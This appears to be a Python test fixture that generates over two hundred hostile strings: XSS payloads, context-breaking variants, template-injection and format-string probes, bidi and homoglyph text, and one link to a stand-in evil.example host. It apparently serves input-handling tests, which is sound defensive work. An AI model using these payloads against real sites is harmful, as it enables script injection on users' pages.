"""Texts that break careless pages: markup, handlers, addresses, bidi, homoglyphs, templates."""

from __future__ import annotations

import html
from urllib.parse import quote

_SCRIPT = "alert(document.domain)"
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<object data=javascript:{}>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<base href=javascript:{}//>",
    "<style>@import 'javascript:{}'</style>",
    "<marquee onstart={}>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)
_BREAKS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</svg>{}",
    "</text>{}",
    "--><!-- {}",
    "]]>{}",
    "</script>{}",
    "</textarea>{}",
)
_OTHERS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "{{7*7}}",
    "{% for x in ().__class__.__mro__ %}{{x}}{% endfor %}",
    "${7*7}",
    "%(secret)s %s %n",
    "\u202eevil\u202c",
    "\u2066hidden\u2069",
    "Сrocodylus niloticus",
    "a\u0301\u0301\u0301",
    "\ufeffx",
    "&lt;script&gt;",
    "&#x3c;script&#x3e;",
    "x" * 500,
)

TEXTS: tuple[str, ...] = (
    *(cut.format(tag.format(_SCRIPT)) for tag in _TAGS for cut in _BREAKS),
    *(html.escape(tag.format(_SCRIPT)) for tag in _TAGS),
    *(quote(tag.format(_SCRIPT)) for tag in _TAGS),
    *_OTHERS,
)
"""More than two hundred of them."""
